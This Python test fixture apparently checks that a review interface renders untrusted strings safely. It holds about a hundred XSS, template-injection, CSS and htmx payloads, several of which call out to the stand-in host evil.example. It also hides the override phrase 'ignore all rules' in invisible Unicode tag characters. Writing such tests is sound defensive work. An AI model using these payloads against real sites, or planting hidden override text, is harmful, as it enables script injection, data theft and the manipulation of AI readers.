"""A hundred attack strings that do harm if they are shown as anything but text."""

# ruff: noqa: RUF001 - letters that look alike are among them

from __future__ import annotations

import base64
from collections.abc import Callable, Iterable, Iterator
from itertools import batched
from typing import Any

_BREAK_SCRIPT = "window.broken=1"  # what runs leaves this behind

_MARKUP = [
    f"<script>{_BREAK_SCRIPT}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{_BREAK_SCRIPT}//",
    f"</div></section></main><script>{_BREAK_SCRIPT}</script>",
    f"<img src=x onerror={_BREAK_SCRIPT}>",
    f"<img/src='x'/onerror='{_BREAK_SCRIPT}'>",
    f"<<img src=x onerror={_BREAK_SCRIPT}//>",
    f'"><img src=x onerror="{_BREAK_SCRIPT}">',
    f"' autofocus onfocus='{_BREAK_SCRIPT}' x='",
    f'" onmouseover="{_BREAK_SCRIPT}" x="',
    f"` onmouseover=`{_BREAK_SCRIPT}`",
    f"<body onload={_BREAK_SCRIPT}>",
    f"<input autofocus onfocus={_BREAK_SCRIPT}>",
    f"<details open ontoggle={_BREAK_SCRIPT}>",
    f"<video><source onerror={_BREAK_SCRIPT}></video>",
    f"<audio src=x onerror={_BREAK_SCRIPT}>",
    f"<marquee onstart={_BREAK_SCRIPT}>x</marquee>",
    f"<select autofocus onfocus={_BREAK_SCRIPT}><option>x",
    f"<dialog open onclose={_BREAK_SCRIPT}>x</dialog>",
    f"<a href=x onclick={_BREAK_SCRIPT} id=item>click</a>",
    f"<p onanimationstart={_BREAK_SCRIPT} style='animation:x'>",
    f"<div onpointerenter={_BREAK_SCRIPT} style='position:fixed;inset:0'>",
    "<iframe src='https://evil.example/'></iframe>",
    f"<iframe srcdoc='<script>parent.{_BREAK_SCRIPT}</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=prefetch href='https://evil.example/leak'>",
    "<form action='https://evil.example/'><input name=verdict value=agree><button data-key=a>",
    "<button form=judgement name=verdict value=agree data-key=1 autofocus>Agree</button>",
    "<textarea></textarea><img src=https://evil.example/a>",
    f"</textarea><script>{_BREAK_SCRIPT}</script>",
    f"</title><script>{_BREAK_SCRIPT}</script>",
    f"</option></select><script>{_BREAK_SCRIPT}</script>",
    f"</pre></details></summary><script>{_BREAK_SCRIPT}</script>",
]
_FOREIGN = [
    f"<svg onload={_BREAK_SCRIPT}>",
    f"<svg><script>{_BREAK_SCRIPT}</script></svg>",
    "<svg><use href='https://evil.example/x.svg#x'></use></svg>",
    f"<svg><a xlink:href='javascript:{_BREAK_SCRIPT}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={_BREAK_SCRIPT} attributeName=x dur=1s>",
    "<svg><image href='https://evil.example/x.png'/></svg>",
    f"<svg><foreignObject><img src=x onerror={_BREAK_SCRIPT}></foreignObject></svg>",
    f"<svg><style>{{}}</style><img src=x onerror={_BREAK_SCRIPT}>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_BREAK_SCRIPT}>",
    f"<math><mi//xlink:href='data:x,<script>{_BREAK_SCRIPT}</script>'>",
    f"<noscript><p title='</noscript><img src=x onerror={_BREAK_SCRIPT}>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={_BREAK_SCRIPT}>'>",
    f"<table><td><template><script>{_BREAK_SCRIPT}</script></template>",
    f"<template shadowrootmode=open><script>{_BREAK_SCRIPT}</script></template>",
    f"<!--><img src=x onerror={_BREAK_SCRIPT}>-->",
    f"<![CDATA[><img src=x onerror={_BREAK_SCRIPT}>]]>",
    f"<?xml version='1.0'?><x onclick='{_BREAK_SCRIPT}'/>",
    f"<!DOCTYPE x [<!ENTITY e '<script>{_BREAK_SCRIPT}</script>'>]>&e;",
    f"<x-y is=z onfocus={_BREAK_SCRIPT} tabindex=0 autofocus>",
]
_ADDRESSES = [
    f"javascript:{_BREAK_SCRIPT}",
    f"JaVaScRiPt:{_BREAK_SCRIPT}",
    f"java\tscript:{_BREAK_SCRIPT}",
    f"\x01javascript:{_BREAK_SCRIPT}",
    f"[click](javascript:{_BREAK_SCRIPT})",
    "![p](https://evil.example/p.png)",
    "<https://evil.example/>",
    f"data:text/html,<script>{_BREAK_SCRIPT}</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.broken=1'/>",
    f'data:image/png;base64,AAAA" onerror="{_BREAK_SCRIPT}',
    "https://evil.example/" + "a" * 400,
    "blob:https://evil.example/1234",
]
_TEMPLATES = [
    "{{ request.user.password }}{% debug %}",
    "{% load static %}{% include 'reviewqueue/sign_in.html' %}",
    "{{constructor.constructor('window.broken=1')()}}",
    "${window.broken=1} #{7*7} <%= 7*7 %>",
    "%(confidence)s %s %n {0.__class__.__mro__}",
    "{# {% endblock %} #}{% endautoescape %}",
]
_HTMX = [
    "<div hx-get='https://evil.example/' hx-trigger=load></div>",
    "<div data-hx-post='/queues/intents/' data-hx-trigger='load' hx-vals='js:{x:window.broken=1}'></div>",
    f"<div hx-on:click='{_BREAK_SCRIPT}' hx-on::load='{_BREAK_SCRIPT}'></div>",
    "<div hx-swap-oob='true' id='desk'>gone</div>",
    '" hx-get="/account/" hx-trigger="load" x="',
    "<hx-partial hx-target='#desk'>gone</hx-partial>",
]
_STYLES = [
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x.png)}</style>",
    "<div style='background:url(https://evil.example/x.png)'>x</div>",
    '<div style="width:expression(window.broken=1)">x</div>',
    "</style><style>*{display:none}</style>",
    "'; background: url(https://evil.example/y); x: '",
]
_CHARACTERS = [
    "invoice\u202efdp.exe",
    "\u2067\u2066left\u2069 open isolates \u2068\u202d",
    "hello" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "zero\u200bwidth\u200cjoin\u200ders\u2060\ufeff",
    "line\u2028separator\u2029paragraph\u0085next",
    "\\u0000 \\x00 %00 &#0; &#x0;",
    "bell\x07 escape\x1b[31m backspace\b\x7f form\f feed\v",
    "p\u0430yp\u0430l and \u0430\u0440\u0440\u04cf\u0435",
    "\ufdfa" * 40 + "Z\u0351\u036b\u0343\u036a\u0302\u0352a\u0306\u0351\u0341l\u0363\u0321g\u0334o" * 10,
    "\ufff9anchor\ufffaseparator\ufffb \ue000\U000f0000\U0010ffff\ufffe",
]
_ENTITIES = [
    "&lt;script&gt;window.broken=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.broken=1&#62;",
    "&#x3c;script&#x3e;window.broken=1&#x3c;/script&#x3e;",
    "&amp;lt;b&amp;gt; &notit; &copy &; &#99999999999;",
    "＜script＞window.broken=1＜/script＞",
]

HOSTILE_STRINGS = [*_MARKUP, *_FOREIGN, *_ADDRESSES, *_TEMPLATES, *_HTMX, *_STYLES, *_CHARACTERS, *_ENTITIES]

# As long as the attacks, because what is long is drawn in another way.
HARMLESS_STRINGS = [
    f"{number} plain words ".ljust(len(one) - 1, "x")[: len(one) - 1] + "."
    for number, one in enumerate(HOSTILE_STRINGS)
]

# As much of a text as makes any value a long one, of words that no attack has.
FILLER_TEXT = "Lorem ipsum dolor sit amet consetetur sadipscing elitr sed diam nonumy eirmod tempor invidunt. " * 8
# A picture of one pixel, its bytes a multiple of three: whatever follows begins with a letter of its own in base64.
_PIXEL = base64.b64decode("R0lGODlhAQABAAAAACwAAAAAAQABAAA=") + b";"
_MAX_IMAGES_DRAWN = 60  # pictures of one block; the others stand as data
_MAX_LISTED_HUNDREDS = 2  # hundreds of places that cannot be marked; the others stand as data
_BLOCKS_PER_KIND = 100  # blocks of a kind
# What a stream has to say so that the shape alone does not choose: any number of blocks of a kind in one input.
DISPLAY_KINDS = {
    f"{kind} {number}": kind
    for kind in ("text", "url", "table", "candidates", "image", "diff")
    for number in range(1, _BLOCKS_PER_KIND + 1)
}


def _number_blocks(kind: str, values: Iterable[Any]) -> dict[str, Any]:
    """Each of them as a block of its own."""
    return {f"{kind} {number}": value for number, value in enumerate(values, 1)}


def _build_spans(strings: list[str]) -> dict[str, Any]:
    """Each of them as a label, as a note, as the text that is marked, and in places that cannot be marked."""
    starts = [sum(len(one) + 2 for one in strings[:at]) for at in range(len(strings))]
    places = [
        {"start": start, "end": start + len(one), "label": one, "note": one, one: one}
        for start, one in zip(starts, strings, strict=True)
    ]
    lost = [{"start": -1, "end": 0, one: one} for one in strings]
    return {"text": "\n\n".join(strings), "spans": [*places, *lost * _MAX_LISTED_HUNDREDS, *lost]}


def _build_messages(string: str) -> list[dict[str, Any]]:
    """Messages with an untrusted string in every field."""
    call = {"id": string, "function": {"name": string, "arguments": string}, "more": string}
    result = {"type": "tool_result", "tool_use_id": string, "name": string, "content": string, "more": string}
    picture = {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{string}", "detail": string}}
    said = {"type": "text", "text": string, "more": string}
    content = [said, {"type": "thinking", "thinking": string}, result, picture]
    open_to_read = {"role": string, "name": string, "at": string, "content": content, "tool_calls": [call]}
    return [{"role": "system", "content": string, "tool_call_id": string}, open_to_read | {string: string}]


def _build_table(string: str) -> dict[str, Any]:
    return {"caption": string, "columns": [string, "next"], "rows": [[string, string + FILLER_TEXT]], "x": string}


def _broken_image(string: str) -> str:
    return f"data:image/png;base64,{string}"


def _drawable_image(string: str) -> str:
    """A valid image with the string appended after its end."""
    return f"data:image/gif;base64,{encode_base64(_PIXEL)}{encode_base64(string.encode())}"


def encode_base64(data: bytes) -> str:
    return base64.b64encode(data).decode().rstrip("=")


def _build_diff(string: str) -> dict[str, Any]:
    """Taken out at the beginning, put in at the end, and left alone between these."""
    return {"before": f"{string}\n{FILLER_TEXT}\n{string}", "after": f"{FILLER_TEXT}\n{string}\n{string}"}


def build_rewritings(strings: list[str]) -> Iterator[tuple[dict[str, Any], dict[str, Any]]]:
    """Inputs, and answers that rewrite their text: few strings in each, because only so many changes are shown."""
    for some in batched(strings, 4, strict=False):
        told = "\n".join(some)
        kept = "so " * len(told)  # more words than are moved, so that these are what moves
        yield {"text": f"{told}\n{kept}"}, {told: f"{kept}\n{told}"}


# An input of each kind of content, made of these strings wherever a producer can put one.
INPUT_BUILDERS: dict[str, Callable[[list[str]], Any]] = {
    "text": lambda strings: _number_blocks("text", strings),
    "spans": _build_spans,
    "messages": lambda strings: {"messages": [message for one in strings for message in _build_messages(one)]},
    "fields": lambda strings: {
        "fields": {one: {one: one, "in": [one, [one]], "all": one + FILLER_TEXT} for one in strings},
    },
    "table": lambda strings: {
        **_number_blocks("table", map(_build_table, strings)),
        "table": {"columns": strings, "rows": [strings]},
    },
    "candidates": lambda strings: {
        "prompt": "\n\n".join(strings),
        "candidates": [*({"name": one, "text": one} for one in strings), *strings],
        **_number_blocks("candidates", ([f"{FILLER_TEXT}\n{one}", FILLER_TEXT] for one in strings)),
    },
    "url": lambda strings: _number_blocks("url", strings),
    "image": lambda strings: {
        **_number_blocks("image", ([_drawable_image(one), _broken_image(one)] for one in strings)),
        "image": [*map(_broken_image, ["AAAA"] * _MAX_IMAGES_DRAWN), *map(_broken_image, strings)],
        "captions": strings,
    },
    "diff": lambda strings: _number_blocks("diff", map(_build_diff, strings)),
    "json": lambda strings: {"data": [{one: one} for one in strings], **{one: [one] for one in strings}},
}
